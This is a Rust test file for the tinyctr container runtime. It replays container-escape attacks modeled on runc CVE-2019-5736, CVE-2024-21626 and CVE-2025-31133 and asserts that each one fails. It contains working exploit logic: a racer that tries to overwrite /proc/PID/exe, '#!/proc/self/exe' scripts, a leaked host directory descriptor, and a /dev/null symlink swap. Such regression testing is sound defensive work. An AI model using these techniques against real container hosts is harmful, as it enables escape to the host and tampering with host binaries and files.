//! runc's container-escape classes, tried against `tinyctr run` with real exploits.
//!
//! - CVE-2019-5736: a command that is a `#!/proc/self/exe` script makes the kernel run
//!   the runtime's own host binary inside the container, and a process of the container
//!   opens `/proc/PID/exe` of a process running that binary to write through it. For
//!   `run` two facts close it: tinyctr's host process executes the binary for the
//!   container's whole life (the kernel refuses to open a running executable for writing:
//!   ETXTBSY), and every container process dies with the container's PID 1 before that
//!   host process ends; besides, tinyctr's own processes inside the container (PID 1
//!   before execve, `--init`'s PID 1) are not dumpable, so their `/proc/PID/exe` cannot
//!   be opened without CAP_SYS_PTRACE. The racer below tries all of it thousands of
//!   times, on a copy of the binary that is the one running, and the copy's bytes are
//!   compared afterwards.
//! - CVE-2024-21626: a descriptor to a host directory open in the runtime when the
//!   container changes directory, and a working directory of `/proc/self/fd/N`.
//!
//! They need root and busybox-static; under CI=true a skip is a failure.

use std::io::Write;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

mod common;
use common::rootfs::{can_run, Rootfs};
use common::{stderr, stdout, wait_output};

fn run_with(bin: &str, args: &[&str]) -> Output {
    common::run_bin(bin, args, Duration::from_secs(120))
}

/// Not a check by itself: run *inside* containers by the CVE-2019-5736 tests (this test
/// binary is a static musl executable, so it runs in the busybox rootfs). For
/// TINYCTR_RACER rounds it tries to open every other process's `/proc/PID/exe` for
/// writing and to write there; it also keeps `O_PATH` descriptors of them and tries to
/// reopen those for writing later, after the processes may have gone. It prints one line
/// `RACER: attempts=N wrote=N errors=...`.
#[test]
fn racer() {
    let Some(rounds) = std::env::var("TINYCTR_RACER").ok().and_then(|v| v.parse::<usize>().ok()) else {
        return;
    };
    let me = std::process::id().to_string();
    let (mut attempts, mut wrote) = (0usize, 0usize);
    let mut errors = std::collections::BTreeMap::<String, usize>::new();
    let mut held = Vec::new();
    let mut try_write = |path: &str, attempts: &mut usize, wrote: &mut usize| {
        *attempts += 1;
        match std::fs::OpenOptions::new().write(true).open(path) {
            Ok(mut f) => {
                if f.write_all(b"#!/bin/sh\necho PWNED\n").is_ok() {
                    *wrote += 1;
                }
            }
            Err(e) => *errors.entry(format!("{:?}", e.kind())).or_default() += 1,
        }
    };
    for _ in 0..rounds {
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|c| c.is_ascii_digit()) || name == me {
                continue;
            }
            let exe = format!("/proc/{name}/exe");
            try_write(&exe, &mut attempts, &mut wrote);
            if held.len() < 64 {
                if let Ok(f) = std::fs::OpenOptions::new().read(true).custom_flags(libc_o_path()).open(&exe) {
                    held.push(f);
                }
            }
        }
        for f in &held {
            let fd = std::os::fd::AsRawFd::as_raw_fd(f);
            try_write(&format!("/proc/self/fd/{fd}"), &mut attempts, &mut wrote);
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    println!("\nRACER: attempts={attempts} wrote={wrote} held={} errors={errors:?}", held.len());
}

fn libc_o_path() -> i32 {
    rustix::fs::OFlags::PATH.bits() as i32
}

/// A hostile image: busybox, the racer as /racer, and the exploit scripts.
fn hostile_image(name: &str) -> Rootfs {
    let r = Rootfs::new(name);
    std::fs::copy(std::env::current_exe().unwrap(), r.dir.join("racer")).unwrap();
    let script = |path: &str, text: &str| {
        let p = r.dir.join(path.trim_start_matches('/'));
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    // The kernel runs the interpreter of the exec'ing process: tinyctr's binary when
    // tinyctr's own process execs it (run's PID 1, --init's child).
    script("/evil", "#!/proc/self/exe\n");
    // The same, asking the host binary to start a container from inside this one.
    script("/evil-run", "#!/proc/self/exe run\n");
    script("/race", "#!/bin/sh\nTINYCTR_RACER=$1 /racer --exact racer --nocapture --test-threads=1\n");
    r
}

/// A private copy of the binary under test, the one the exploit runs against, so a
/// successful exploit could never damage the build.
struct Victim {
    path: std::path::PathBuf,
    bytes: Vec<u8>,
}

impl Victim {
    fn new(name: &str) -> Victim {
        let path = std::env::temp_dir().join(format!("tinyctr-victim-{name}-{}", std::process::id()));
        let bytes = std::fs::read(common::BIN_PATH).unwrap();
        std::fs::write(&path, &bytes).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        Victim { path, bytes }
    }

    fn bin(&self) -> &str {
        self.path.to_str().unwrap()
    }

    fn assert_intact(&self, what: &str) {
        let now = std::fs::read(&self.path).unwrap();
        assert!(now == self.bytes, "{what}: the host binary was rewritten ({} bytes now)", now.len());
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

/// The racer's summary line, checked: thousands of attempts, none wrote.
fn racer_line(o: &Output) -> String {
    let out = stdout(o);
    let line = out.lines().find(|l| l.starts_with("RACER: ")).map(str::to_owned);
    let line = line.unwrap_or_else(|| panic!("no racer report\nstdout: {out}\nstderr: {}", stderr(o)));
    let n = |key: &str| -> usize {
        line.split(' ').find_map(|w| w.strip_prefix(key)).and_then(|v| v.parse().ok()).unwrap_or(0)
    };
    assert!(n("attempts=") >= 1000, "too few attempts to mean anything: {line}");
    assert_eq!(n("wrote="), 0, "the racer wrote through a /proc/PID/exe: {line}");
    line
}

/// The control: the racer does rewrite an executable once nothing runs it any more
/// (here a copy of busybox inside the container, run for a moment), through the O_PATH
/// descriptor it kept. So a zero below means the binary was out of reach, not that the
/// racer cannot write.
#[test]
fn the_racer_rewrites_an_executable_that_nothing_runs_any_more() {
    if !can_run() {
        return;
    }
    let img = hostile_image("cve5736-control");
    let script = "cp /bin/busybox /tmp/busybox && (/tmp/busybox sleep 0.05 &) && /race 2000; /tmp/busybox";
    // --privileged, as for the racers below: the same attacker.
    let o = run_with(common::BIN_PATH, &["run", "--privileged", "-r", img.path(), "/bin/sh", "-c", script]);
    let out = stdout(&o);
    let line = out.lines().find(|l| l.starts_with("RACER: ")).unwrap_or_else(|| panic!("{out}\n{}", stderr(&o)));
    assert!(!line.contains("wrote=0 "), "the control did not rewrite: {line}");
    // The rewritten copy is a shell script now.
    assert!(out.contains("PWNED"), "{out}");
}

#[test]
fn a_self_exe_script_as_the_command_runs_the_binary_but_nothing_can_race_it() {
    if !can_run() {
        return;
    }
    let img = hostile_image("cve5736-run");
    let v = Victim::new("run");
    for _ in 0..20 {
        // PID 1 becomes tinyctr's binary through the #! line, and is the only process:
        // it answers as tinyctr would to `tinyctr /evil`.
        let o = run_with(v.bin(), &["run", "-r", img.path(), "/evil"]);
        assert_eq!(o.status.code(), Some(125), "stdout: {}\nstderr: {}", stdout(&o), stderr(&o));
        assert!(stderr(&o).contains("unknown command '/evil'"), "{}", stderr(&o));
    }
    v.assert_intact("run /evil");
}

#[test]
fn a_racer_never_rewrites_the_binary_through_init() {
    if !can_run() {
        return;
    }
    let img = hostile_image("cve5736-init");
    let v = Victim::new("init");
    // --init's PID 1 runs tinyctr's binary for the container's whole life, next to the
    // racer (its grandchild): the one place where a process of the container and a
    // process running the host binary share a PID namespace for long. --privileged: the
    // racer as strong as a container's root can be (a default container lacks
    // CAP_SYS_PTRACE, so it cannot even open the non-dumpable PID 1's /proc/1/exe).
    for _ in 0..3 {
        let o = run_with(v.bin(), &["run", "--privileged", "--init", "-r", img.path(), "/bin/sh", "-c", "/race 1500"]);
        let line = racer_line(&o);
        eprintln!("--init: {line}");
        v.assert_intact("run --init with a racer");
    }
    // And --init's own child, still tinyctr's code until its execve, runs /evil: the
    // kernel runs the host binary as the container's command.
    let o = run_with(v.bin(), &["run", "--init", "-r", img.path(), "/evil"]);
    assert_eq!(o.status.code(), Some(125), "stdout: {}\nstderr: {}", stdout(&o), stderr(&o));
    v.assert_intact("run --init /evil");
}

#[test]
fn the_binary_run_from_inside_ends_with_the_container() {
    if !can_run() {
        return;
    }
    let img = hostile_image("cve5736-nested");
    let v = Victim::new("nested");
    // `#!/proc/self/exe run` as the command: PID 1 becomes the host binary and (where it
    // may create namespaces at all) starts the script again in a container of its own,
    // each level a process of the one above, until the pids limit stops it. A process of
    // one level can only see the host binary's process of the level below it, and every
    // level dies with its PID 1.
    let o = run_with(v.bin(), &["run", "--pids-limit", "64", "-r", img.path(), "/evil-run", "/bin/true"]);
    assert_eq!(o.status.code(), Some(125), "stdout: {}\nstderr: {}", stdout(&o), stderr(&o));
    v.assert_intact("run /evil-run");
}

/// CVE-2024-21626: a host directory open as descriptor 7 in tinyctr's caller (not
/// close-on-exec), and the working directory pointed through it.
#[test]
fn a_leaked_host_directory_descriptor_never_reaches_the_container() {
    if !can_run() {
        return;
    }
    let img = Rootfs::new("leaked-fd");
    let host_dir = std::env::temp_dir().join(format!("tinyctr-host-secret-{}", std::process::id()));
    std::fs::create_dir_all(&host_dir).unwrap();
    std::fs::write(host_dir.join("secret"), "host\n").unwrap();
    let with_fd7 = |args: &[&str]| -> Output {
        let mut all =
            vec!["-c", r#"exec 7<"$1"; shift; exec "$@""#, "sh", host_dir.to_str().unwrap(), common::BIN_PATH];
        all.extend_from_slice(args);
        run_with("/bin/sh", &all)
    };
    for extra in [&[][..], &["-m", "64m"][..], &["--init"][..]] {
        // The working directory through the descriptor: refused, the container never runs.
        let mut args = vec!["run"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&["-r", img.path(), "-w", "/proc/self/fd/7", "/bin/cat", "secret"]);
        let o = with_fd7(&args);
        assert_eq!(o.status.code(), Some(125), "{extra:?}: stdout {}\nstderr {}", stdout(&o), stderr(&o));
        assert_eq!(
            stderr(&o),
            "tinyctr: change to working directory \"/proc/self/fd/7\": ENOENT (No such file or directory)\n"
        );
        assert!(!stdout(&o).contains("host"), "the container read the host file");
        // And the container holds nothing but 0, 1 and 2 (ls's own directory is 3).
        let mut args = vec!["run"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&["-r", img.path(), "/bin/ls", "/proc/self/fd"]);
        let o = with_fd7(&args);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(stdout(&o).split_whitespace().collect::<Vec<_>>(), ["0", "1", "2", "3"], "{extra:?}");
    }
    // Without --rootfs too (the host's root; nothing to escape, but nothing leaks either).
    let o = with_fd7(&["run", "/bin/ls", "/proc/self/fd"]);
    assert_eq!(stdout(&o).split_whitespace().collect::<Vec<_>>(), ["0", "1", "2", "3"]);
    let _ = std::fs::remove_dir_all(&host_dir);
    assert!(Path::new(common::BIN_PATH).exists());
}

/// Not a check by itself: run by `the_workdir_check_sees_a_directory_outside_the_root`
/// in a process of its own (it chroots).
#[test]
fn workdir_probe() {
    let Ok(dir) = std::env::var("TINYCTR_WORKDIR_PROBE") else { return };
    rustix::process::chroot(dir.as_str()).unwrap();
    // The working directory is still the old one, outside the new root.
    let outside = tinyctr::fds::workdir_inside_root();
    rustix::process::chdir("/").unwrap();
    println!("\nPROBE: outside={outside} inside={}", tinyctr::fds::workdir_inside_root());
}

/// The check the child makes after changing directory: a working directory the root
/// cannot reach is seen as such (what a descriptor or magic link leaking past the root
/// would give), one inside it is not.
#[test]
fn the_workdir_check_sees_a_directory_outside_the_root() {
    if !can_run() {
        return;
    }
    let dir = Rootfs::new("workdir-probe");
    let o = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "workdir_probe", "--nocapture", "--test-threads=1"])
        .env("TINYCTR_WORKDIR_PROBE", dir.path())
        .current_dir("/")
        .output()
        .unwrap();
    assert!(stdout(&o).contains("PROBE: outside=false inside=true"), "{}\n{}", stdout(&o), stderr(&o));
}

/// The sealed copy (what the commands that leave a container behind run from): the
/// racer attacks `--init`'s PID 1 running from it, and `check` says it is in use.
/// `TINYCTR_DEBUG_SEALED` (debug builds only) makes any command re-execute from it.
#[test]
fn a_sealed_copy_cannot_be_rewritten() {
    if !can_run() {
        return;
    }
    let img = hostile_image("sealed");
    let o = Command::new(common::BIN_PATH).arg("check").env("TINYCTR_DEBUG_SEALED", "1").output().unwrap();
    assert!(stdout(&o).contains("binary:     a sealed in-memory copy"), "{}", stdout(&o));
    let o = Command::new(common::BIN_PATH).arg("check").output().unwrap();
    assert!(stdout(&o).contains("binary:     a writable file"), "{}", stdout(&o));
    let child = Command::new(common::BIN_PATH)
        // --privileged: see a_racer_never_rewrites_the_binary_through_init.
        .args(["run", "--privileged", "--init", "-r", img.path(), "/bin/sh", "-c", "ls -l /proc/1/exe; /race 1500"])
        .env("TINYCTR_DEBUG_SEALED", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let o = wait_output(child, Duration::from_secs(120));
    assert!(stdout(&o).contains("/memfd:tinyctr"), "PID 1 does not run from the memfd: {}", stdout(&o));
    eprintln!("sealed: {}", racer_line(&o));
}

/// CVE-2025-31133: `/dev/null` swapped for a symlink, so that masking a path would
/// bind-mount the symlink's target (a host file) writable over it. A volume over the
/// container's /dev is how an image-side `/dev/null` can exist here (tinyctr makes its
/// own /dev otherwise): whatever is there is opened without following links and must be
/// the null device (char 1:3) before anything is bound, or the run stops.
#[test]
fn a_dev_null_that_is_not_the_null_device_is_never_bound() {
    if !can_run() {
        return;
    }
    let img = Rootfs::new("devnull");
    let host = std::env::temp_dir().join(format!("tinyctr-devnull-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&host);
    std::fs::create_dir_all(host.join("dev")).unwrap();
    let secret = host.join("secret");
    std::fs::write(&secret, "host secret\n").unwrap();
    let dev = host.join("dev");
    let volume = format!("{}:/dev", dev.display());
    for (what, make) in [("a symlink to a host file", 0), ("a regular file", 1)] {
        let _ = std::fs::remove_file(dev.join("null"));
        match make {
            0 => std::os::unix::fs::symlink(&secret, dev.join("null")).unwrap(),
            _ => std::fs::write(dev.join("null"), "").unwrap(),
        }
        let o = run_with(
            common::BIN_PATH,
            &["run", "-r", img.path(), "-v", &volume, "/bin/sh", "-c", "echo pwned > /proc/kcore; cat /proc/kcore"],
        );
        assert_eq!(o.status.code(), Some(125), "{what}: {}\n{}", stdout(&o), stderr(&o));
        assert_eq!(
            stderr(&o),
            "tinyctr: open the null device (char 1:3) to mask paths with \"/dev/null\": ENODEV (No such device)\n",
            "{what}"
        );
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "host secret\n", "{what}: the host file changed");
    }
    let _ = std::fs::remove_dir_all(&host);
}
